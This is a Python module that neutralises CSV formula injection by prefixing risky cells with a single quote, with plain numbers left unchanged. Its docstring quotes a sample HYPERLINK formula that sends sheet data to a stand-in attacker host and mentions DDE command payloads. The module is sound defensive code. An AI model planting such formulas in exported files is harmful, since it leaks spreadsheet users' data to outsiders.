"""CSV cells that a spreadsheet will not run as formulas (CSV / formula injection).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?"&A1)``
sends the sheet's data away when clicked; DDE payloads run commands). OWASP's rule: prefix
such a cell with a single quote, which makes it text. A cell that is a plain number
(``-1001234567890``, a supergroup's chat id) is left as it is: a number is never a formula,
and the quote would change the value a reader sees.

Every CSV the service writes goes through ``safe_row``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """The value, with a leading ``'`` when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
